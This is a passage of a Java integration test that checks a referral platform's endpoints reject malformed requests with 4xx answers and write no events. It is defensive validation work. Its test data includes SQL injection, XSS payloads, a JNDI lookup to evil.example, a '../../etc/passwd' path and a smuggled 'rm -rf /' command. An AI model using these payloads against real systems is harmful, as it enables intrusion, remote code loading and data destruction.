package org.linkway.system;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.linkway.platform.domain.Funding;
import org.linkway.platform.kafka.Topic;
import org.linkway.platform.kafka.Topics;
import org.linkway.referral.intake.ReferralIntake;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Issue point 10: a corpus of bad requests against every endpoint that takes input, over real HTTP
 * with the owner's token. Missing and extra fields, wrong types, empty and huge strings, control
 * characters and other scripts, negative and absurd numbers, dates in the future and before 1900,
 * injection strings, bodies over 1 MB, wrong content types, malformed JSON and FHIR. Each case names
 * the status it must get and the field or word the answer must name; every answer must be a 4xx in
 * problem+json (or, from the FHIR door, a FHIR OperationOutcome), never a 5xx; and no event may be
 * written for any of them: the test compares what the topics hold before and after, and looks for
 * anything keyed by or carrying the corpus's own provider, commissioner or referral ids.
 *
 * <p>The corpus is the table in {@link #corpus()}: service, method, path, content type, body (a
 * generator for the huge ones), expected status, the name the problem must carry.
 */
class BadRequestCorpusIT {

  static final String PROVIDER = "corpus-befrienders";
  static final String SERVICE = "corpus-befriending";
  /** A second provider, for a commissioner of its own, so that no corpus referral is offered to it. */
  static final String OTHER_PROVIDER = "corpus-elsewhere";
  static final String OTHER_SERVICE = "corpus-elsewhere-walks";
  static final String COMMISSIONER = "QCP";
  static final String OTHER_COMMISSIONER = "QCQ";
  static final String CONTRACT = "corpus-tariff";
  static final int MB = 1024 * 1024;

  /** Every topic an HTTP command can lead to a write on. */
  static final List<Topic<?>> WATCHED = List.of(Topics.REFERRALS, OwnerTokens.REJECTIONS, Topics.REFERRAL_COMMANDS,
      Topics.PROVIDER_DIRECTORY, Topics.PROVIDER_COMMANDS, Topics.PROVIDER_EVENTS, Topics.FUNDING_CONTRACTS,
      Topics.FUNDING_LEDGER, Topics.COMMISSIONER_OUTCOMES, Topics.COMMISSIONER_BUDGETS, Topics.BUDGET_USE,
      Topics.BUDGET_REQUESTS, Topics.BUDGET_DECISIONS);

  static final JsonMapper JSON = JsonMapper.builder().build();
  private static final HttpClient SET_UP = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
  static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  private static RunningPlatform platform;
  /** Offered to {@link #PROVIDER}: the target of the provider's decisions. */
  private static String offered;
  /** Offered to {@link #PROVIDER} too: the target of the cancellations. */
  private static String cancellable;

  /** One bad request: what is sent, and what must come back. */
  record Case(int n, String service, String method, String path, String contentType, Supplier<byte[]> body,
      Map<String, String> headers, int status, String names, String what) {
    @Override
    public String toString() {
      return "#" + n + " " + method + " " + path + " (" + what + ")";
    }
  }

  record Answer(int status, String contentType, String body) {}

  @BeforeAll
  static void aProviderWithAnOfferAndAContract() {
    platform = EmbeddedPlatform.get();
    register(PROVIDER, SERVICE, COMMISSIONER);
    register(OTHER_PROVIDER, OTHER_SERVICE, OTHER_COMMISSIONER);
    setUp("outcome-service", "PUT", "/commissioners/" + COMMISSIONER + "/contracts/" + CONTRACT, 200,
        Map.of("providerId", PROVIDER, "validFrom", "2026-04-01", "validTo", "2027-03-31",
            "engagementFee", 50.00, "completionFee", 150.00, "completionMinSessions", 2));
    offered = referOffered();
    cancellable = referOffered();
    JourneyScenario.awaitOffer(platform, PROVIDER, offered);
    JourneyScenario.awaitOffer(platform, PROVIDER, cancellable);
    await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
        platform.outcomeService().get().uri("/commissioners/{c}/contracts", COMMISSIONER).exchange()
            .expectBody().jsonPath("$[?(@.contractId == '" + CONTRACT + "')]").exists());
  }

  private static void register(String provider, String service, String commissioner) {
    setUp("provider-service", "POST", "/providers", 201, Map.of("providerId", provider, "name", "Corpus " + provider,
        "services", List.of(Map.of("serviceId", service, "name", "Corpus group", "needs", List.of("LONELINESS"),
            "commissioners", List.of(commissioner), "capacity", 50))));
  }

  /**
   * A request of the set-up, as its owner, sent again while the service answers 503; with a patient
   * client: the first write of a fresh platform registers schemas, which on a busy machine takes
   * longer than the shared clients wait.
   */
  private static String setUp(String service, String method, String path, int status, Object body) {
    String[] answer = new String[1];
    await().atMost(Duration.ofSeconds(180)).pollInterval(Duration.ofMillis(500)).untilAsserted(() -> {
      HttpResponse<String> response = SET_UP.send(HttpRequest.newBuilder(
                  URI.create(platform.baseUrl(service) + path))
              .timeout(Duration.ofSeconds(120))
              .header("Authorization", "Bearer " + OwnerTokens.tokenFor(path))
              .header("Content-Type", "application/json")
              .method(method, HttpRequest.BodyPublishers.ofString(JSON.writeValueAsString(body))).build(),
          HttpResponse.BodyHandlers.ofString());
      assertThat(response.statusCode()).as(response.body()).isIn(status, 503);
      assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
      answer[0] = response.body();
    });
    return answer[0];
  }

  /** A referral offered to the corpus provider; referred again if routing ran before the directory listed it. */
  private static String referOffered() {
    String[] id = new String[1];
    await().atMost(Duration.ofSeconds(180)).pollInterval(Duration.ofMillis(500)).untilAsserted(() -> {
      if (id[0] == null || status(id[0]).equals("UNPLACED")) {
        id[0] = JSON.readTree(setUp("referral-service", "POST", "/referrals", 202,
            JourneyScenario.referralBody(COMMISSIONER, List.of("LONELINESS")))).path("referralId").asString();
      }
      assertThat(status(id[0])).isEqualTo("OFFERED");
    });
    JourneyScenario.awaitReferral(platform, id[0], "OFFERED", PROVIDER);
    return id[0];
  }

  private static String status(String referralId) {
    if (referralId == null) return "";
    var result = platform.referralService().get().uri("/referrals/{id}", referralId).exchange()
        .expectBody(Map.class).returnResult();
    Map<?, ?> view = result.getResponseBody();
    // 404 until referral-service has read its own ReferralSubmitted
    return result.getStatus().value() != 200 || view == null ? "" : String.valueOf(view.get("status"));
  }

  @Test
  void givenTheCorpusOfBadRequests_whenEachIsSent_thenEachGetsA4xxNamingTheProblemAndNoEventIsWritten() throws Exception {
    List<Case> corpus = corpus();
    Map<Topic<?>, Map<TopicPartition, Long>> before = new LinkedHashMap<>();
    for (Topic<?> topic : WATCHED) before.put(topic, endOffsets(topic));

    long started = System.nanoTime();
    HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
        .connectTimeout(Duration.ofSeconds(10)).build();
    Map<Integer, Integer> byStatus = new TreeMap<>();
    Map<String, Integer> byService = new TreeMap<>();
    List<String> failures = new ArrayList<>();
    int serverErrors = 0;
    for (Case c : corpus) {
      Answer answer = send(http, c);
      byStatus.merge(answer.status(), 1, Integer::sum);
      byService.merge(c.service(), 1, Integer::sum);
      if (answer.status() >= 500) serverErrors++;
      String problem = judge(c, answer);
      if (problem != null) failures.add(c + ": " + problem);
    }
    double seconds = (System.nanoTime() - started) / 1e9;

    // nothing written for the corpus, now or as a consequence a moment later: the topics are read
    // until what they hold of the corpus's has not changed for 3 s, then once more for the figures
    Set<String> ours = ourMarks(corpus);
    Map<String, String> emitted = new ConcurrentHashMap<>();
    AtomicInteger seen = new AtomicInteger(-1);
    await().during(Duration.ofSeconds(3)).atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(500))
        .until(() -> {
          scan(before, ours, emitted, new TreeMap<>());
          return seen.getAndSet(emitted.size()) == emitted.size();
        });
    Map<String, Integer> newRecords = new TreeMap<>();
    scan(before, ours, emitted, newRecords);

    long fourXx = byStatus.entrySet().stream().filter(e -> e.getKey() / 100 == 4).mapToLong(Map.Entry::getValue).sum();
    Map<Integer, Integer> fourXxByStatus = new TreeMap<>();
    byStatus.forEach((s, n) -> {
      if (s / 100 == 4) fourXxByStatus.put(s, n);
    });
    System.out.printf("bad-request corpus: %d requests tried (%s) in %.1f s; 4xx %d by status %s; 5xx %d; "
            + "other answers %d; events emitted for the corpus %d (records written meanwhile by others: %s); "
            + "cases failing their expectation %d%n",
        corpus.size(), byService, seconds, fourXx, fourXxByStatus, serverErrors,
        corpus.size() - fourXx - serverErrors, emitted.size(), newRecords, failures.size());
    failures.forEach(f -> System.out.println("  FAILED " + f));
    emitted.values().forEach(e -> System.out.println("  EMITTED " + e));

    assertThat(corpus).hasSizeGreaterThanOrEqualTo(200);
    assertThat(serverErrors).as("5xx answers").isZero();
    assertThat(failures).as("cases that did not get the 4xx they should").isEmpty();
    assertThat(emitted.values()).as("events written for bad requests").isEmpty();
  }

  // ---------------------------------------------------------------------------------------------
  // the corpus

  private List<Case> corpus() throws IOException {
    Corpus k = new Corpus();
    referrals(k);
    fhir(k);
    cancellations(k);
    directory(k);
    imports(k);
    serviceListing(k);
    decisions(k);
    contracts(k);
    budgets(k);
    queries(k);
    return k.cases;
  }

  static final String REFERRAL = """
      {"patient": {"nhsNumber": "9434765919", "givenName": "Ada", "familyName": "Lovelace", "birthDate": "1950-12-10",
                   "postcode": "NR1 3SR", "phone": "01603 000000", "email": "ada@example.org"},
       "consent": true, "referrer": {"odsCode": "D82044", "clinician": "Dr Jones"},
       "commissioner": "QCP", "needs": ["LONELINESS"], "notes": "corpus"}""";

  /** POST /referrals: every case carries its own Idempotency-Key, so whatever it might become is keyed by it. */
  private void referrals(Corpus k) {
    k.service = "referral-service";
    k.method = "POST";
    k.path = "/referrals";
    k.idempotent = true;
    String b = REFERRAL;
    // missing fields
    for (String field : List.of("patient", "patient.nhsNumber", "patient.givenName", "patient.familyName",
        "patient.birthDate", "patient.postcode", "consent", "referrer", "referrer.odsCode", "commissioner", "needs")) {
      String named = switch (field) {
        case "referrer" -> "referrer.odsCode";
        default -> field;
      };
      k.json(without(b, field), 400, named, "no " + field);
    }
    // extra fields
    k.json(with(b, "patient.hairColour", "grey"), 400, "hairColour", "an extra field in patient");
    k.json(with(b, "priority", "urgent"), 400, "priority", "an extra top-level field");
    k.json(with(b, "referralId", UUID.randomUUID().toString()), 400, "referralId", "a referral id chosen by the caller");
    // empty strings
    k.json(with(b, "patient.nhsNumber", ""), 400, "patient.nhsNumber", "empty NHS number");
    k.json(with(b, "patient.givenName", ""), 400, "patient.givenName", "empty given name");
    k.json(with(b, "patient.familyName", "   "), 400, "patient.familyName", "blank family name");
    k.json(with(b, "patient.birthDate", ""), 400, "patient.birthDate", "empty birth date");
    k.json(with(b, "patient.postcode", ""), 400, "patient.postcode", "empty postcode");
    k.json(with(b, "referrer.odsCode", ""), 400, "referrer.odsCode", "empty practice");
    k.json(with(b, "commissioner", ""), 400, "commissioner", "empty commissioner");
    k.json(with(b, "needs", raw("[]")), 400, "needs", "no needs");
    k.json(with(b, "needs", raw("[\"\"]")), 400, "needs[0]", "an empty need");
    // wrong types
    k.json(with(b, "patient", "Ada Lovelace"), 400, "patient", "patient as a string");
    k.json(with(b, "patient", raw("[]")), 400, "patient", "patient as an array");
    k.json(with(b, "consent", "yes"), 400, "consent", "consent as a word");
    k.json(with(b, "consent", 1), 400, "consent", "consent as a number");
    k.json(with(b, "consent", "true"), 400, "consent", "consent as a string");
    k.json(with(b, "directPrescription", "please"), 400, "directPrescription", "directPrescription as a word");
    k.json(with(b, "directPrescription", raw("[true]")), 400, "directPrescription", "directPrescription as an array");
    k.json(with(b, "needs", "LONELINESS"), 400, "needs", "needs as a string");
    k.json(with(b, "needs", raw("[{\"code\": \"LONELINESS\"}]")), 400, "needs", "a need as an object");
    k.json(with(b, "patient.nhsNumber", 9434765919L), 400, "patient.nhsNumber", "NHS number as a number");
    k.json(with(b, "patient.birthDate", 19501210), 400, "patient.birthDate", "birth date as a number");
    k.json(with(b, "patient.givenName", raw("[\"Ada\"]")), 400, "patient.givenName", "given name as an array");
    k.json(with(b, "referrer", "D82044"), 400, "referrer", "referrer as a string");
    k.json(with(b, "notes", raw("{\"text\": \"corpus\"}")), 400, "notes", "notes as an object");
    k.json(with(b, "consent", raw("null")), 400, "consent", "consent null");
    // huge strings
    k.json(with(b, "patient.givenName", "A".repeat(100_000)), 400, "patient.givenName", "a 100,000-character given name");
    k.json(with(b, "patient.familyName", "L".repeat(5_000)), 400, "patient.familyName", "a 5,000-character family name");
    k.json(with(b, "notes", "n".repeat(2_001)), 400, "notes", "notes of 2,001 characters");
    k.json(with(b, "notes", "n".repeat(600_000)), 400, "notes", "notes of 600,000 characters");
    k.json(with(b, "patient.nhsNumber", "9".repeat(10_000)), 400, "patient.nhsNumber", "a 10,000-digit NHS number");
    k.json(with(b, "patient.postcode", "NR1 3SR".repeat(1_000)), 400, "patient.postcode", "a postcode repeated");
    k.json(with(b, "patient.email", "a".repeat(10_000) + "@example.org"), 400, "patient.email", "a 10,000-character email");
    k.json(with(b, "referrer.clinician", "Dr " + "J".repeat(10_000)), 400, "referrer.clinician", "a huge clinician");
    k.json(with(b, "needs", raw("[" + "\"ASTROLOGY\",".repeat(9_999) + "\"ASTROLOGY\"]")), 400, "needs",
        "10,000 needs");
    // control characters
    k.json(with(b, "patient.givenName", "Ada\u0000"), 400, "patient.givenName", "NUL in the given name");
    k.json(with(b, "patient.familyName", "Love\u001b[31mlace"), 400, "patient.familyName", "an ANSI escape in the family name");
    k.json(with(b, "patient.postcode", "NR1 3SR\n"), 400, "patient.postcode", "a newline after the postcode");
    k.json(with(b, "patient.postcode", "NR1\t3SR"), 400, "patient.postcode", "a tab in the postcode");
    k.json(with(b, "patient.nhsNumber", "943476591\u00009"), 400, "patient.nhsNumber", "NUL in the NHS number");
    k.json(with(b, "patient.email", "ada\u0007@example.org"), 400, "patient.email", "BEL in the email");
    k.json(with(b, "notes", "ring \u0007\u0007\u0007"), 400, "notes", "BEL in the notes");
    k.json(with(b, "referrer.clinician", "Dr\u0000Jones"), 400, "referrer.clinician", "NUL in the clinician");
    k.json(with(b, "referrer.odsCode", "D8204\u00004"), 400, "referrer.odsCode", "NUL in the practice");
    k.json(with(b, "patient.givenName", raw("\"\\uD800\"")), 400, "patient.givenName", "a lone surrogate as the given name");
    // other scripts
    k.json(with(b, "patient.nhsNumber", "٩٤٣٤٧٦٥٩١٩"), 400, "patient.nhsNumber", "Arabic-Indic digits");
    k.json(with(b, "patient.nhsNumber", "９４３４７６５９１９"), 400, "patient.nhsNumber", "full-width digits");
    k.json(with(b, "patient.postcode", "NR1 3ЅR"), 400, "patient.postcode", "a Cyrillic S in the postcode");
    k.json(with(b, "commissioner", "ＱＭＭ"), 400, "commissioner", "a full-width ICB code");
    k.json(with(b, "referrer.odsCode", "Д82044"), 400, "referrer.odsCode", "a Cyrillic practice code");
    k.json(with(b, "needs", raw("[\"ОДИНОЧЕСТВО\"]")), 400, "needs[0]", "a need in Russian");
    k.json(with(b, "patient.birthDate", "١٩٥٠-١٢-١٠"), 400, "patient.birthDate", "a birth date in Arabic-Indic digits");
    // dates
    k.json(with(b, "patient.birthDate", LocalDate.now().plusDays(1).toString()), 400, "patient.birthDate", "born tomorrow");
    k.json(with(b, "patient.birthDate", "2999-01-01"), 400, "patient.birthDate", "born in 2999");
    k.json(with(b, "patient.birthDate", "1899-12-31"), 400, "patient.birthDate", "born before 1900");
    k.json(with(b, "patient.birthDate", "0001-01-01"), 400, "patient.birthDate", "born in year 1");
    k.json(with(b, "patient.birthDate", "1950-02-30"), 400, "patient.birthDate", "30 February");
    k.json(with(b, "patient.birthDate", "1950-13-01"), 400, "patient.birthDate", "month 13");
    k.json(with(b, "patient.birthDate", "10/12/1950"), 400, "patient.birthDate", "a British date");
    k.json(with(b, "patient.birthDate", "1950-12-10T00:00:00Z"), 400, "patient.birthDate", "a timestamp");
    k.json(with(b, "patient.birthDate", "+1950-12-10"), 400, "patient.birthDate", "a signed year");
    // injection strings
    k.json(with(b, "patient.nhsNumber", "' OR '1'='1"), 400, "patient.nhsNumber", "SQL in the NHS number");
    k.json(with(b, "patient.givenName", "Robert'); DROP TABLE patients;--"), 400, "patient.givenName", "SQL in the given name");
    k.json(with(b, "patient.familyName", "<script>alert(1)</script>"), 400, "patient.familyName", "a script in the family name");
    k.json(with(b, "patient.postcode", "<img src=x onerror=alert(1)>"), 400, "patient.postcode", "HTML in the postcode");
    k.json(with(b, "patient.email", "ada@example.org<script>alert(1)</script>"), 400, "patient.email", "a script after the email");
    k.json(with(b, "commissioner", "QMM' OR 1=1--"), 400, "commissioner", "SQL in the commissioner");
    k.json(with(b, "referrer.odsCode", "${jndi:ldap://evil.example/a}"), 400, "referrer.odsCode", "a JNDI lookup");
    k.json(with(b, "needs", raw("[\"LONELINESS; DROP TABLE needs\"]")), 400, "needs[0]", "SQL in a need");
    k.json(with(b, "preferredServiceId", "../../etc/passwd"), 400, "preferredServiceId", "a path as the preferred service");
    k.json(with(b, "patient.phone", "01603 000000; rm -rf /"), 400, "patient.phone", "a shell command after the phone");
    // whose referral: a practice refers only as itself
    k.json(with(b, "referrer.odsCode", "A81001"), 403, "A81001", "another practice");
    // the body as such
    k.common("referral", b);
  }

  /** POST /fhir/ServiceRequest: problems come back as a FHIR OperationOutcome with the element's path. */
  private void fhir(Corpus k) throws IOException {
    k.service = "referral-service";
    k.method = "POST";
    k.path = "/fhir/ServiceRequest";
    k.idempotent = false;
    k.contentType = "application/fhir+json";
    String example = Files.readString(Path.of("../referral-service/src/test/resources/fhir/service-request-example.json"));
    String b = with(with(example, "performer[0].identifier.value", COMMISSIONER), "identifier[0].value", "corpus-fhir");
    String patient = "ServiceRequest.contained[0]";
    k.json(with(b, "contained[0].identifier[0].value", "9434765918"), 400, patient + ".identifier[0]", "a wrong NHS number");
    k.json(without(b, "contained[0].identifier"), 400, "NHS number", "no NHS number");
    k.json(with(b, "contained[0].identifier[0].value", "٩٤٣٤٧٦٥٩١٩"), 400, patient + ".identifier[0]", "Arabic-Indic digits");
    k.json(without(b, "subject"), 400, "ServiceRequest.subject", "no subject");
    k.json(with(b, "subject.reference", "Patient/123"), 400, "ServiceRequest.subject", "a subject that is not contained");
    k.json(with(b, "subject.reference", "#nobody"), 400, "ServiceRequest.subject", "a subject that names nothing");
    k.json(with(b, "contained[1].status", "rejected"), 400, "ServiceRequest.supportingInfo", "consent rejected");
    k.json(without(b, "supportingInfo"), 400, "ServiceRequest.supportingInfo", "no consent");
    k.json(without(b, "requester"), 400, "ServiceRequest.requester", "no requester");
    k.json(without(b, "performer"), 400, "ServiceRequest.performer", "no performer");
    k.json(with(b, "performer[0].identifier.value", "QMM' OR 1=1--"), 400, "ServiceRequest.performer", "SQL as the ICB");
    k.json(with(b, "reasonCode[0].coding[0].code", "ASTROLOGY"), 400, "ServiceRequest.reasonCode[0].coding[0]", "an unknown need");
    k.json(without(b, "reasonCode"), 400, "ServiceRequest.reasonCode", "no need");
    k.json(with(b, "code.coding[0].code", "183924009"), 400, "ServiceRequest.code", "not a social prescribing code");
    k.json(with(b, "contained[0].birthDate", "2999-01-01"), 400, patient + ".birthDate", "born in 2999");
    k.json(with(b, "contained[0].birthDate", "1899-12-31"), 400, patient + ".birthDate", "born before 1900");
    k.json(with(b, "contained[0].birthDate", "1948"), 400, patient + ".birthDate", "a year only");
    k.json(with(b, "contained[0].birthDate", "1948-02-30"), 400, patient + ".birthDate", "30 February");
    k.json(with(b, "contained[0].address[0].postalCode", "NR1 3SR\n"), 400, patient + ".address[0].postalCode",
        "a newline after the postcode");
    k.json(with(b, "contained[0].name[0].given[0]", "M".repeat(100_000)), 400, patient + ".name[0].given[0]",
        "a 100,000-character given name");
    k.json(with(b, "contained[0].name[0].family", "<script>alert(1)</script>"), 400, patient + ".name[0].family",
        "a script as the family name");
    k.json(with(b, "contained[0].name[0].family", "Thomp\u0000son"), 400, patient + ".name[0].family", "NUL in the family name");
    k.json(with(b, "note[0].text", "n".repeat(3_000)), 400, "ServiceRequest.note[0].text", "a 3,000-character note");
    k.json(with(b, "requester.identifier.value", "A81001"), 403, "forbidden", "another practice's request");
    // not FHIR R4 JSON
    k.json(with(b, "resourceType", "Patient"), 400, "ServiceRequest", "a Patient");
    k.json(with(b, "resourceType", "Bogus"), 400, "Bogus", "an unknown resource type");
    k.json(without(b, "resourceType"), 400, "resourceType", "no resourceType");
    k.json(with(b, "contained[0].resourceType", ""), 400, "resourceType", "a contained resource with a blank resourceType");
    k.json(with(b, "contained", "patient"), 400, "contained", "contained as a string");
    k.json(with(b, "subject", raw("[{\"reference\": \"#patient\"}, {\"reference\": \"#patient\"}]")), 400, "subject",
        "subject repeated");
    k.json(with(b, "status", raw("5")), 400, "status", "status as a number");
    k.json(with(b, "contained[0].birthDate", raw("19480314")), 400, "birthDate", "birth date as a number");
    k.raw("", 400, "empty", "an empty body");
    k.raw("{", 400, "FHIR", "an unclosed object");
    k.raw("null", 400, "FHIR", "null");
    k.raw("[]", 400, "FHIR", "an array");
    k.raw("\"ServiceRequest\"", 400, "FHIR", "a string");
    k.raw("<ServiceRequest xmlns=\"http://hl7.org/fhir\"/>", 400, "FHIR", "XML sent as JSON");
    k.raw("{\"resourceType\": \"ServiceRequest\", \"note\": [{\"text\": \"x\"}]} trailing", 400, "FHIR", "trailing garbage");
    k.raw("{\"resourceType\": \"ServiceRequest\", \"extension\": " + "[{\"extension\": ".repeat(3_000) + "[]"
        + "}]".repeat(3_000) + "}", 400, "FHIR", "3,000 nested extensions");
    k.bytes(new byte[] {'{', '"', 'r', (byte) 0xC3, (byte) 0x28, '"', ':', '1', '}'}, 400, "FHIR", "invalid UTF-8");
    k.contentType = "text/plain";
    k.json(b, 415, "text/plain", "FHIR as text/plain");
    k.contentType = "application/fhir+xml";
    k.json("<ServiceRequest xmlns=\"http://hl7.org/fhir\"/>", 415, "application/fhir+xml", "FHIR XML");
    k.contentType = "application/fhir+json";
    k.json(with(b, "note[0].text", "n".repeat(MB + 10)), 413, "1 MB", "a ServiceRequest over 1 MB");
    k.contentType = null;
  }

  /** POST /referrals/{id}/cancel on a referral that is offered, and must stay so. */
  private void cancellations(Corpus k) {
    k.service = "referral-service";
    k.method = "POST";
    k.path = "/referrals/" + cancellable + "/cancel";
    k.json("{\"reason\": {\"text\": \"moved\"}}", 400, "reason", "reason as an object");
    k.json("{\"reason\": [\"moved\"]}", 400, "reason", "reason as an array");
    k.json("{\"reason\": \"moved away\", \"force\": true}", 400, "force", "an extra field");
    k.json("[]", 400, "body", "an array");
    k.json("\"moved away\"", 400, "body", "a string");
    k.common("cancellation", "{\"reason\": \"moved away\"}", true);
    k.path = "/referrals/" + UUID.randomUUID() + "/cancel";
    k.json("{\"reason\": \"moved away\"}", 404, "no referral", "an unknown referral");
    k.path = "/referrals/not-a-referral/cancel";
    k.json("{\"reason\": \"moved away\"}", 404, "no referral", "a referral id that is not a UUID");
    k.path = "/referrals/' OR 1=1--/cancel".replace(" ", "%20").replace("'", "%27");
    k.json("{\"reason\": \"moved away\"}", 404, "no referral", "SQL as the referral id");
  }

  static final String PROVIDER_BODY = """
      {"providerId": "corpus-new", "name": "Corpus new", "services": [{"serviceId": "corpus-new-group",
        "name": "Corpus group", "needs": ["LONELINESS"], "taxonomy": ["esdNeed:loneliness"], "commissioners": ["QCP"],
        "postcodeDistricts": ["NR1"], "capacity": 5, "status": "ACTIVE", "minAge": 18, "maxAge": 99}]}""";

  /** POST /providers. */
  private void directory(Corpus k) {
    k.service = "provider-service";
    k.method = "POST";
    k.path = "/providers";
    String b = PROVIDER_BODY;
    String s = "services[0].";
    for (String field : List.of("providerId", "name", "services", s + "serviceId", s + "name", s + "needs",
        s + "commissioners", s + "capacity")) {
      k.json(without(b, field), 400, field, "no " + field);
    }
    k.json(with(b, "services", raw("[]")), 400, "services", "no services");
    k.json(with(b, "services", raw("[null]")), 400, "services[0]", "a null service");
    k.json(with(b, "services[0].rating", 5), 400, "rating", "an extra field");
    k.json(with(b, "providerId", "Corpus-New"), 400, "providerId", "capitals in the id");
    k.json(with(b, "providerId", "c"), 400, "providerId", "a 1-character id");
    k.json(with(b, "providerId", "corpus-" + "x".repeat(60)), 400, "providerId", "a 67-character id");
    k.json(with(b, "providerId", "corpus new"), 400, "providerId", "a space in the id");
    k.json(with(b, "providerId", "../corpus"), 400, "providerId", "a path as the id");
    k.json(with(b, "providerId", "corpus\u0000new"), 400, "providerId", "NUL in the id");
    k.json(with(b, "providerId", "корпус"), 400, "providerId", "a Cyrillic id");
    k.json(with(b, "providerId", 42), 400, "providerId", "the id as a number");
    k.json(with(b, "name", "   "), 400, "name", "a blank name");
    k.json(with(b, "name", "N".repeat(100_000)), 400, "name", "a 100,000-character name");
    k.json(with(b, "name", "Corpus\u0000"), 400, "name", "NUL in the name");
    k.json(with(b, s + "name", "Group\u001b[2J"), 400, s + "name", "an ANSI escape in the service name");
    k.json(with(b, s + "needs", raw("[\"ASTROLOGY\"]")), 400, s + "needs[0]", "an unknown need");
    k.json(with(b, s + "needs", raw("[null]")), 400, s + "needs[0]", "a null need");
    k.json(with(b, s + "needs", "LONELINESS"), 400, s + "needs", "needs as a string");
    k.json(with(b, s + "commissioners", raw("[\"QMMM\"]")), 400, s + "commissioners[0]", "a 4-letter ICB");
    k.json(with(b, s + "commissioners", raw("[\"qcp\"]")), 400, s + "commissioners[0]", "a lower-case ICB");
    k.json(with(b, s + "postcodeDistricts", raw("[\"NR 1\"]")), 400, s + "postcodeDistricts[0]", "a space in a district");
    k.json(with(b, s + "postcodeDistricts", raw("[\"<script>\"]")), 400, s + "postcodeDistricts[0]", "a script as a district");
    k.json(with(b, s + "taxonomy", raw("[\"esdNeed:\\u0000\"]")), 400, s + "taxonomy[0]", "NUL in a taxonomy term");
    k.json(with(b, s + "taxonomy", raw("[null]")), 400, s + "taxonomy[0]", "a null taxonomy term");
    k.json(with(b, s + "taxonomy", raw("[\"" + "t".repeat(10_000) + "\"]")), 400, s + "taxonomy[0]", "a huge taxonomy term");
    k.json(with(b, s + "capacity", -1), 400, s + "capacity", "capacity -1");
    k.json(with(b, s + "capacity", Integer.MAX_VALUE), 400, s + "capacity", "capacity 2,147,483,647");
    k.json(with(b, s + "capacity", raw("2147483648")), 400, s + "capacity", "capacity beyond an int");
    k.json(with(b, s + "capacity", raw("1e400")), 400, s + "capacity", "capacity 1e400");
    k.json(with(b, s + "capacity", raw("2.5")), 400, s + "capacity", "half a place");
    k.json(with(b, s + "capacity", "ten"), 400, s + "capacity", "capacity as a word");
    k.json(with(b, s + "status", "OPEN"), 400, s + "status", "an unknown status");
    k.json(with(b, s + "minAge", -1), 400, s + "minAge", "minimum age -1");
    k.json(with(b, s + "maxAge", 131), 400, s + "maxAge", "maximum age 131");
    k.json(with(with(b, s + "minAge", 50), s + "maxAge", 20), 400, s + "maxAge", "maximum below minimum");
    k.json(with(b, s + "serviceId", OTHER_SERVICE), 400, s + "serviceId", "another provider's service");
    k.json(with(b, "services[1]", raw(JSON.readTree(b).get("services").get(0).toString())), 400, "services[1].serviceId",
        "the same service twice");
    k.common("provider", b);
  }

  /** POST /providers/import (Open Referral UK / HSDS 3.0): errors name each element by its JSON path. */
  private void imports(Corpus k) {
    k.service = "provider-service";
    k.method = "POST";
    k.path = "/providers/import";
    String b = """
        {"linkway": {"commissioners": ["QCP"]},
         "organizations": [{"id": "corpus-import-org", "name": "Corpus import"}],
         "services": [{"id": "corpus-import-service", "name": "Corpus service", "organization_id": "corpus-import-org",
                       "status": "active", "linkway": {"capacity": 3}}]}""";
    k.json("[]", 400, "body", "an array");
    k.json("{}", 400, "organizations", "no arrays");
    k.json(without(b, "services"), 400, "services", "no services");
    k.json(with(b, "organizations", "corpus"), 400, "organizations", "organizations as a string");
    k.json(with(b, "services[0].id", "Corpus Import"), 400, "services[0].id", "a bad service id");
    k.json(with(b, "services[0].organization_id", "nobody"), 400, "services[0].organization_id", "an unknown organization");
    k.json(with(b, "services[0].status", "closed"), 400, "services[0].status", "an unknown status");
    k.json(with(b, "services[0].linkway.capacity", -3), 400, "services[0].linkway.capacity", "capacity -3");
    k.json(with(b, "services[0].linkway.capacity", "three"), 400, "services[0].linkway.capacity", "capacity as a word");
    k.json(with(b, "services[0].minimum_age", -5), 400, "services[0].minimum_age", "minimum age -5");
    k.json(with(b, "linkway.commissioners", raw("[\"QMM' OR 1=1\"]")), 400, "linkway.commissioners[0]", "SQL as an ICB");
    k.json(with(b, "organizations[0].name", ""), 400, "organizations[0].name", "a nameless organization");
    k.common("directory", b);
  }

  /** PUT /providers/{p}/services/{s} for the corpus provider. */
  private void serviceListing(Corpus k) {
    k.service = "provider-service";
    k.method = "PUT";
    k.path = "/providers/" + PROVIDER + "/services/corpus-second";
    String b = """
        {"name": "Corpus second", "needs": ["LONELINESS"], "commissioners": ["QCP"], "capacity": 5}""";
    k.json(without(b, "capacity"), 400, "capacity", "no capacity");
    k.json(with(b, "capacity", -5), 400, "capacity", "capacity -5");
    k.json(with(b, "needs", raw("[]")), 400, "needs", "no needs");
    k.json(with(b, "name", ""), 400, "name", "no name");
    k.json(with(b, "status", "CLOSED"), 400, "status", "an unknown status");
    k.json(with(b, "intakePaused", "no"), 400, "intakePaused", "intakePaused as a word");
